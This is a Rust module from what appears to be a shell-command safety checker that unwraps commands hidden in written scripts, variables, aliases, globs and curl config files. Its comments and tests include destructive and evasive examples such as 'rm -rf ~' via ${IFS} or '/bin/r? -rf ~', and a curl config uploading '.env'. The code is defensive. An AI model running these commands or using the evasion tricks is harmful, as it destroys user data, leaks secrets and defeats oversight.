//! A file the line writes with literal text, then runs: `printf 'rm -rf ~' > /tmp/x.sh;
//! bash /tmp/x.sh`, `cat > run.py <<'EOF' … EOF` then `python3 run.py`, `echo … > x.sh &&
//! chmod +x x.sh && ./x.sh`. What was written is what runs, so it is read where it runs: as
//! shell text for a shell, `source`, or the file run by its path (its `#!` line choosing an
//! interpreter), as code for an interpreter (`python3 - <<EOF` with the text), and as curl's
//! options for `curl -K FILE`, each nested under the command that runs it.
//!
//! Literal text only: `echo`/`printf` redirected to the file (`>`, `>>`), `cat`/`tee` given a
//! here-document or here-string. Paths are compared as written, `./` aside. One pass over the
//! line's commands; what is read is charged against the parser's budget.

use super::parse::{Out, Scope, parse_text};
use super::{Command, RedirectOp, Via};
use crate::catalogue::{self, Class};

/// Reads what the line's commands run of the files it wrote.
pub(super) fn read(out: &mut Out) {
    let mut files: Vec<(String, String)> = Vec::new();
    let mut found: Vec<(usize, String)> = Vec::new();
    for (at, cmd) in out.commands.iter().enumerate() {
        for (path, kind) in runs_file(cmd) {
            if let Some((_, text)) = files.iter().rev().find(|(p, _)| *p == path) {
                found.push((at, kind.text(text)));
                break;
            }
        }
        // What an `echo`/`printf` before it in the pipeline prints is `tee`'s or `cat`'s input:
        // looked for just before it, a bounded way back (the line stays linear).
        let before = if cmd.stage > 0 && matches!(cmd.program(), "tee" | "cat") {
            out.commands
                .get(..at)
                .unwrap_or(&[])
                .iter()
                .rev()
                .take(64)
                .find(|c| {
                    c.pipeline == cmd.pipeline && c.stage + 1 == cmd.stage && c.parent == cmd.parent
                })
        } else {
            None
        };
        for (path, text, append) in writes(cmd, before) {
            match files.iter_mut().rev().find(|(p, _)| *p == path) {
                Some((_, old)) if append => old.push_str(&text),
                Some((_, old)) => *old = text,
                None => files.push((path, text)),
            }
        }
    }
    read_under(out, found, Via::HereDoc);
}

/// Reads each text as commands nested under the command at its index.
fn read_under(out: &mut Out, found: Vec<(usize, String)>, via: Via) {
    for (at, text) in found {
        let sudo = out.commands.get(at).is_some_and(|c| c.sudo);
        let scope = Scope {
            via,
            parent: Some(at),
            sudo,
            depth: 1,
        };
        parse_text(out, &text, scope);
    }
}

/// A program named by a variable the line set to literal text before (`x=rm; $x -rf ~`,
/// `c="rm -rf"; $c ~`), or by the shell's separators (`rm${IFS}-rf${IFS}~`, `IFS` unset:
/// space, tab, line break): the command read again with the value in the variable's place,
/// split where `IFS` says.
pub(super) fn values(out: &mut Out) {
    // The separators until the line sets its own: `rm${IFS}-rf${IFS}~` is three words.
    let mut vars: Vec<(String, String)> = vec![("IFS".to_string(), " \t\n".to_string())];
    let mut found: Vec<(usize, String)> = Vec::new();
    for (at, cmd) in out.commands.iter().enumerate() {
        if cmd.words.is_empty() || super::vars::is_setter(cmd.program()) {
            let exported = super::vars::declared(cmd);
            let set = cmd
                .assignments
                .iter()
                .map(|(n, v)| (n.as_str(), v.as_str()))
                .chain(exported);
            for (name, value) in set {
                vars.retain(|(n, _)| n != name);
                // A value only known when it runs names nothing known; the home folder is
                // known (`x=rm,-rf,$HOME`: read again, `$HOME` is the home folder).
                if !without_home(value).contains(['$', '`']) {
                    // `a=(rm -rf ~)`: an array's words, as `"${a[@]}"` gives them.
                    let value = value
                        .strip_prefix('(')
                        .and_then(|v| v.strip_suffix(')'))
                        .unwrap_or(value);
                    vars.push((name.to_string(), value.to_string()));
                }
            }
            continue;
        }
        // `set -- rm -rf ~` gives `"$@"` its words; `read -r x <<< "rm -rf ~"` gives `$x`
        // the line.
        if let Some((name, value)) = set_by_builtin(cmd) {
            vars.retain(|(n, _)| *n != name);
            if !value.contains(['$', '`']) {
                vars.push((name, value));
            }
            continue;
        }
        if !cmd.dynamic_program || vars.is_empty() {
            continue;
        }
        // `IFS=_; c=rm_-rf_~; $c`: the value is split at the separators the line set.
        let ifs = vars
            .iter()
            .rev()
            .find(|(n, _)| n == "IFS")
            .map_or("", |(_, v)| v.as_str());
        let words: Vec<String> = cmd
            .words
            .iter()
            .map(|w| substituted(w, &vars, ifs))
            .collect();
        if words.first() != cmd.words.first() {
            found.push((at, words.join(" ")));
        }
    }
    // Its program is known now: what it runs is the command read with the value.
    for (at, _) in &found {
        if let Some(cmd) = out.commands.get_mut(*at) {
            cmd.dynamic_program = false;
        }
    }
    read_under(out, found, Via::Eval);
}

/// The most uses of the line's aliases read.
const MAX_ALIAS_USES: usize = 8;

/// An alias the line defines and then uses (`alias ll='rm -rf ~'; ll`, `alias x='rm -rf'; x
/// ~`): its text runs where its name is used, followed by the words the use gives it (zsh
/// expands aliases in scripts; bash after `shopt -s expand_aliases`), so each use is read as
/// commands of the `alias` that holds it. One the line only defines runs nothing.
pub(super) fn aliases(out: &mut Out) {
    let mut found: Vec<(usize, String)> = Vec::new();
    for (at, c) in out.commands.iter().enumerate() {
        if c.program() != "alias" {
            continue;
        }
        for (name, text) in c.args().iter().filter_map(|a| a.split_once('=')) {
            if text.is_empty() {
                continue;
            }
            for used in out
                .commands
                .iter()
                .skip(at + 1)
                .filter(|u| u.words.first().is_some_and(|w| w == name))
            {
                if found.len() >= MAX_ALIAS_USES {
                    break;
                }
                let mut line = text.to_string();
                for word in used.args() {
                    line.push(' ');
                    line.push_str(&super::runs::quote(word));
                }
                found.push((at, line));
            }
        }
    }
    read_under(out, found, Via::Eval);
}

/// The most programs a glob in a program's place is read as.
const MAX_GLOBBED: usize = 8;

/// A program named by a glob (`/bin/r? -rf ~`, `/usr/bin/py*3 -c …`): the command read again
/// as each program of the catalogue the glob's last part matches, when there are few enough
/// to say (8): what the shell would run is one of them. The command itself stays a program
/// only known when it runs; the readings only add to it.
///
/// But a glob looked up on the `PATH` (no `/`) with no `*` (`[abc]`, `r[m]`) names a file of
/// the work folder that has as many letters as it has elements: every program of the
/// catalogue it could name (in either case, a version or `.exe` after it) is among the
/// readings, so what else it names is a program the catalogue doesn't know, read by its
/// words as any such program is, not one only known when it runs.
pub(super) fn globs(out: &mut Out) {
    let mut found: Vec<(usize, String)> = Vec::new();
    let mut named: Vec<usize> = Vec::new();
    for (at, cmd) in out.commands.iter().enumerate() {
        let Some(first) = cmd.words.first() else {
            continue;
        };
        if !cmd.dynamic_program || first.contains(['$', '`']) || !first.contains(['*', '?', '[']) {
            continue;
        }
        let bounded = !first.contains(['/', '*', '~', '\\']);
        let pattern = first.rsplit('/').next().unwrap_or(first);
        let names: Vec<&str> = catalogue::CATALOGUE
            .iter()
            .map(|p| p.name)
            .filter(|name| match bounded {
                true => glob_could_name(pattern, name),
                false => glob_matches(pattern, name),
            })
            .take(MAX_GLOBBED + 1)
            .collect();
        if names.len() > MAX_GLOBBED {
            continue;
        }
        if bounded {
            named.push(at);
        }
        let rest: Vec<&str> = cmd.words.iter().skip(1).map(String::as_str).collect();
        for name in names {
            let mut text = name.to_string();
            for word in &rest {
                text.push(' ');
                text.push_str(&quoted(word));
            }
            found.push((at, text));
        }
    }
    for at in named {
        if let Some(cmd) = out.commands.get_mut(at) {
            cmd.dynamic_program = false;
            cmd.dynamic = cmd.words.iter().any(|w| w.contains(['$', '`']));
        }
    }
    read_under(out, found, Via::Eval);
}

/// A word quoted for the shell as it is (`'` closed, escaped and opened again).
fn quoted(word: &str) -> String {
    if !word.is_empty()
        && word
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"-_./=:,+@%~".contains(&b))
    {
        return word.to_string();
    }
    format!("'{}'", word.replace('\'', "'\\''"))
}

/// One element of a glob at `i` (`?`, a bracket set, a letter): whether it matches `c`, and
/// how long it is; none past the end.
fn glob_element(p: &[char], i: usize, c: char) -> Option<(bool, usize)> {
    match p.get(i)? {
        '?' => Some((true, 1)),
        '[' if p.iter().skip(i + 2).any(|&x| x == ']') => {
            let close = p.iter().skip(i + 2).position(|&x| x == ']')? + i + 2;
            let mut set = p.get(i + 1..close)?;
            let negated = matches!(set.first(), Some('!' | '^'));
            if negated {
                set = set.get(1..)?;
            }
            let mut hit = false;
            let mut k = 0;
            while let Some(&low) = set.get(k) {
                match (set.get(k + 1), set.get(k + 2)) {
                    (Some('-'), Some(&high)) => {
                        hit |= low <= c && c <= high;
                        k += 3;
                    }
                    _ => {
                        hit |= low == c;
                        k += 1;
                    }
                }
            }
            Some((hit != negated, close + 1 - i))
        }
        &x => Some((x == c, 1)),
    }
}

/// Could a glob with no `*` (`[abc]`, `r?`, `[^a]`) name a file the catalogue reads as `name`:
/// `name` itself in either case, or `name` and more after it (a version, `.exe`)? Its first
/// elements each match `name`'s letter in one case or the other; it has at least as many.
pub(crate) fn glob_could_name(pattern: &str, name: &str) -> bool {
    let p: Vec<char> = pattern.chars().collect();
    let mut i = 0;
    for c in name.chars() {
        let lower = glob_element(&p, i, c.to_ascii_lowercase());
        let upper = glob_element(&p, i, c.to_ascii_uppercase());
        match (lower, upper) {
            (Some((true, len)), _) | (_, Some((true, len))) => i += len,
            _ => return false,
        }
    }
    true
}

/// Does a shell glob (`*`, `?`, `[abc]`, `[a-z]`, `[!a]`) match all of `name`? Two cursors and
/// one place to go back to, so it is linear in practice and never exponential.
pub(crate) fn glob_matches(pattern: &str, name: &str) -> bool {
    let p: Vec<char> = pattern.chars().collect();
    let n: Vec<char> = name.chars().collect();
    let one = |i: usize, c: char| glob_element(&p, i, c);
    let (mut i, mut j) = (0, 0);
    let mut back: Option<(usize, usize)> = None;
    while j < n.len() {
        if p.get(i) == Some(&'*') {
            back = Some((i, j));
            i += 1;
            continue;
        }
        match one(i, n[j]) {
            Some((true, len)) => {
                i += len;
                j += 1;
            }
            _ => match back {
                Some((star, from)) => {
                    i = star + 1;
                    j = from + 1;
                    back = Some((star, from + 1));
                }
                None => return false,
            },
        }
    }
    p[i..].iter().all(|&c| c == '*')
}

/// A word with `$NAME` and `${NAME}` of the known variables put in their place (`$xy` is
/// not `$x`), each value split where it holds one of `ifs`, the separators the line set.
/// What a builtin sets to literal words: `set -- WORDS` the positional parameters (`@`),
/// `read [-r] NAME <<< TEXT` the variable NAME.
fn set_by_builtin(cmd: &Command) -> Option<(String, String)> {
    let args = cmd.args();
    match cmd.program() {
        "set" if args.first().is_some_and(|a| a == "--") => {
            Some(("@".to_string(), args.get(1..)?.join(" ")))
        }
        "read" => {
            let names: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
            let [name] = names.as_slice() else {
                return None;
            };
            let text = cmd
                .redirects
                .iter()
                .find(|r| r.op == super::RedirectOp::HereString)?;
            Some(((*name).clone(), text.target.trim_end().to_string()))
        }
        _ => None,
    }
}

/// `value` with its uses of the home folder's variable (`$HOME`, `${HOME}`) taken out.
fn without_home(value: &str) -> std::borrow::Cow<'_, str> {
    if value.contains("HOME") {
        std::borrow::Cow::Owned(value.replace("${HOME}", "").replace("$HOME", ""))
    } else {
        std::borrow::Cow::Borrowed(value)
    }
}

/// A variable's name as a use of it gives all of it: `a[@]`, `a[*]` and `*` are `a` and `@`.
fn whole_name(name: &str) -> &str {
    match name {
        "*" => "@",
        _ => name
            .strip_suffix("[@]")
            .or_else(|| name.strip_suffix("[*]"))
            .unwrap_or(name),
    }
}

fn substituted(word: &str, vars: &[(String, String)], ifs: &str) -> String {
    let mut out = String::new();
    let mut rest = word;
    while let Some(at) = rest.find('$') {
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        let (name, len) = match after.strip_prefix('{') {
            Some(inner) => match inner.find('}') {
                Some(end) => (&inner[..end], end + 2),
                None => ("", 0),
            },
            // `$@`, `$*`: every positional parameter.
            None if after.starts_with(['@', '*']) => (&after[..1], 1),
            None => {
                let end = after
                    .find(|c: char| !c.is_ascii_alphanumeric() && c != '_')
                    .unwrap_or(after.len());
                (&after[..end], end)
            }
        };
        let name = whole_name(name);
        match vars.iter().rev().find(|(n, _)| n == name) {
            Some((_, value)) if len > 0 => {
                out.extend(value.chars().map(|c| if ifs.contains(c) { ' ' } else { c }));
                rest = &after[len..];
            }
            _ => {
                out.push('$');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

/// A path as the line's commands compare it.
fn path(word: &str) -> String {
    word.trim_start_matches("./").to_string()
}

/// What a command writes with literal text: (path, text, appended).
fn writes(cmd: &Command, before: Option<&Command>) -> Vec<(String, String, bool)> {
    let mut out = Vec::new();
    let printed = |c: &Command| {
        super::runs::printed_text(c).map(|mut text| {
            if c.program() == "echo" {
                text.push('\n');
            }
            text
        })
    };
    let body = || {
        cmd.redirects
            .iter()
            .find(|r| matches!(r.op, RedirectOp::HereDoc | RedirectOp::HereString))
            .map(|r| {
                let mut text = r.target.clone();
                if r.op == RedirectOp::HereString {
                    text.push('\n');
                }
                text
            })
            .or_else(|| {
                before
                    .filter(|b| matches!(b.program(), "echo" | "printf"))
                    .and_then(printed)
            })
    };
    let text = match cmd.program() {
        "echo" | "printf" => printed(cmd),
        "cat" => body(),
        "tee" => {
            if let Some(text) = body() {
                let append = cmd.args().iter().any(|a| a == "-a" || a == "--append");
                for file in cmd.args().iter().filter(|a| !a.starts_with('-')) {
                    out.push((path(file), text.clone(), append));
                }
            }
            None
        }
        _ => None,
    };
    if let Some(text) = text {
        for r in &cmd.redirects {
            let to_out = r.fd.is_none_or(|fd| fd == 1);
            match r.op {
                RedirectOp::Write if to_out => out.push((path(&r.target), text.clone(), false)),
                RedirectOp::Append if to_out => out.push((path(&r.target), text.clone(), true)),
                _ => {}
            }
        }
    }
    out
}

/// How a command runs a file.
enum Kind {
    /// As shell text (`bash x.sh`, `source x.sh`, `./x.sh`).
    Shell,
    /// As the code of this interpreter (`python3 x.py`).
    Code(&'static str),
    /// By its path: its `#!` line says which.
    ByPath,
    /// As a crontab installed (`crontab FILE`): each line's command, run on its schedule.
    Crontab,
    /// As curl's options (`curl -K FILE URL`), in the place of `-K FILE` among the command's
    /// other words (those, quoted, here).
    CurlConfig(String),
}

impl Kind {
    /// The text to read in the runner's place.
    fn text(&self, written: &str) -> String {
        let interpreter = match self {
            Kind::Crontab => return super::runs::crontab_commands(written),
            Kind::CurlConfig(rest) => return format!("curl {} {rest}", curl_config(written)),
            Kind::Shell => None,
            Kind::Code(name) => Some(*name),
            Kind::ByPath => written
                .strip_prefix("#!")
                .and_then(|line| line.lines().next())
                .and_then(|line| {
                    // `#!/usr/bin/env python3`, `#!/usr/bin/python3 -u`.
                    let mut words = line.split_whitespace();
                    let first = words.next()?;
                    let program = if catalogue::name(first) == "env" {
                        words.find(|w| !w.starts_with('-'))?
                    } else {
                        first
                    };
                    let found = catalogue::program(program)?;
                    (found.code.is_some() && !found.is(Class::Shell)).then_some(found.name)
                }),
        };
        match interpreter {
            Some(name) => {
                let mut delimiter = String::from("WARDEN_WRITTEN");
                while written.contains(&delimiter) {
                    delimiter.push('_');
                }
                format!("{name} - <<'{delimiter}'\n{written}\n{delimiter}\n")
            }
            None => written.to_string(),
        }
    }
}

/// The files a command may run, and how: the program named by a file's path, a shell's or
/// an interpreter's script operand, what `source` or `.` reads.
fn runs_file(cmd: &Command) -> Vec<(String, Kind)> {
    let mut out = Vec::new();
    let Some(first) = cmd.words.first() else {
        return out;
    };
    if first.contains('/') {
        out.push((path(first), Kind::ByPath));
    }
    let Some(found) = catalogue::program(cmd.program()) else {
        return out;
    };
    let args = cmd.args();
    // `crontab FILE` installs the file as the user's schedule (`-l`, `-r`, `-e` name none).
    if found.name == "crontab" {
        let files: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
        if let [file] = files.as_slice()
            && !args
                .iter()
                .any(|a| matches!(a.as_str(), "-l" | "-r" | "-e"))
        {
            out.push((path(file), Kind::Crontab));
        }
        return out;
    }
    // `curl -K FILE` (`--config FILE`, `--config=FILE`, `-KFILE`) reads its options from it.
    if found.name == "curl" {
        let mut rest: Vec<String> = Vec::new();
        let mut config = None;
        let mut words = args.iter();
        while let Some(arg) = words.next() {
            let value = match arg.as_str() {
                "-K" | "--config" => words.next().cloned(),
                a => a
                    .strip_prefix("--config=")
                    .or_else(|| a.strip_prefix("-K").filter(|v| !v.is_empty()))
                    .map(str::to_string),
            };
            match value {
                Some(file) if config.is_none() => config = Some(path(&file)),
                _ => rest.push(super::quote_word(arg)),
            }
        }
        if let Some(file) = config {
            out.push((file, Kind::CurlConfig(rest.join(" "))));
        }
        return out;
    }
    let operand = args
        .iter()
        .take_while(|a| *a != "--")
        .find(|a| !a.starts_with('-'))
        .map(|a| path(a));
    let kind = if found.is(Class::Source) {
        Some(Kind::Shell)
    } else if found.is(Class::Shell) && found.name != "cmd" {
        // `bash -c TEXT` runs the text, not a file.
        let inline = args
            .iter()
            .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('c'));
        (!inline).then_some(Kind::Shell)
    } else {
        found.code.and_then(|code| {
            let inline = args
                .iter()
                .any(|a| code.inline.contains(&a.as_str()) || a == "-m");
            (!inline && !code.inline.contains(&"")).then_some(Kind::Code(found.name))
        })
    };
    if let (Some(kind), Some(operand)) = (kind, operand) {
        out.push((operand, kind));
    }
    out
}

/// curl's options in a config file (`upload-file = .env`, `url: "https://x"`, `-T .env`, `#`
/// comments), written as its command line's words: `--upload-file .env --url https://x`.
fn curl_config(text: &str) -> String {
    let mut words: Vec<String> = Vec::new();
    for line in text.lines().map(str::trim) {
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let end = line
            .find(|c: char| c.is_whitespace() || c == '=' || c == ':')
            .unwrap_or(line.len());
        let (name, value) = line.split_at(end);
        let value = value
            .trim_start()
            .trim_start_matches(['=', ':'])
            .trim()
            .trim_matches('"');
        words.push(if name.starts_with('-') {
            name.to_string()
        } else {
            format!("--{name}")
        });
        if !value.is_empty() {
            words.push(super::quote_word(value));
        }
    }
    words.join(" ")
}

#[cfg(test)]
mod tests {
    use super::{glob_could_name, glob_matches};

    #[test]
    fn a_curl_config_is_read_as_its_options() {
        assert_eq!(
            super::curl_config("# upload\nupload-file = .env\nurl: \"https://x.example\"\n-s\n"),
            "--upload-file .env --url https://x.example -s"
        );
    }

    #[test]
    fn globs_match_as_the_shell_matches() {
        for (pattern, name, want) in [
            ("r?", "rm", true),
            ("r?", "rmdir", false),
            ("py*3", "python3", true),
            ("*", "rm", true),
            ("[rs]m", "rm", true),
            ("[!r]m", "rm", false),
            ("[a-z]m", "rm", true),
            ("*sh", "bash", true),
            ("b*s*h", "bash", true),
            ("c?rl", "curl", true),
            ("c?rl", "crl", false),
            ("[", "[", true),
        ] {
            assert_eq!(glob_matches(pattern, name), want, "{pattern} ~ {name}");
        }
    }

    #[test]
    fn a_glob_with_no_star_could_name_a_program_in_either_case_or_with_more_after_it() {
        for (pattern, name, want) in [
            ("[r]m", "rm", true),
            ("[R]m", "rm", true),
            ("python3.1[2]", "python3", true),
            ("r?", "r", true),
            ("[abc]", "rm", false),
            ("[abc]", "a", true),
            ("[^a]", "a", true),
            ("[^aA]", "a", false),
            ("[xq]z", "xz", true),
            ("[xq]z", "zip", false),
            ("r", "rm", false),
        ] {
            assert_eq!(glob_could_name(pattern, name), want, "{pattern} ~ {name}");
        }
    }
}
